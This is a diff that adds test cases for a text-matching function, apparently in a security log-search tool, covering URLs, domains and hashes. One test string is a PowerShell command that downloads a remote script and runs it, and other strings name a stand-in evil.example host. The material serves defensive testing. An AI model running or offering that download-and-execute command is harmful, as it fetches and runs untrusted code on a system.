@@ -31,4 +31,29 @@ HAS_CASES = [
     ("(x|y)", "x", False),
     ("é", "café", False),
     ("emoji 😀", "an emoji 😀 here", True),
+    # URLs, domains and hashes in free text (issue 10): the command line of
+    # tests/fixtures/sample-data SecurityEvent_4688, a Syslog-style message.
+    (
+        "http://wh401k.org/getps",
+        "iex (New-Object Net.WebClient).DownloadString('http://wh401k.org/getps')",
+        True,
+    ),
+    ("wh401k.org", "DownloadString('http://wh401k.org/getps')", True),
+    ("wh401k.org/getps", "DownloadString('http://wh401k.org/getps')", True),
+    ("http://wh401k.org/getps", "http://wh401k.org/getpsx", False),
+    ("http://wh401k.org/getps", "http://wh401k.org/getps/next", True),
+    ("https://evil.example/a?b=1", "GET https://evil.example/a?b=1 HTTP/1.1", True),
+    ("https://evil.example/a?b=1", "GET https://evil.example/a?b=10 HTTP/1.1", False),
+    ("evil.example", "dns query sub.evil.example A", True),
+    ("evil.example", "dns query evil.examples A", False),
+    (
+        "3423b3fd7bf9ff89886377241521d7896eceb0274c4b2b6af1e0910da70822b1",
+        "sha256=3423B3FD7BF9FF89886377241521D7896ECEB0274C4B2B6AF1E0910DA70822B1 ok",
+        True,
+    ),
+    (
+        "3423b3fd7bf9ff89",
+        "sha256=3423b3fd7bf9ff89886377241521d7896eceb0274c4b2b6af1e0910da70822b1",
+        False,
+    ),
 ]
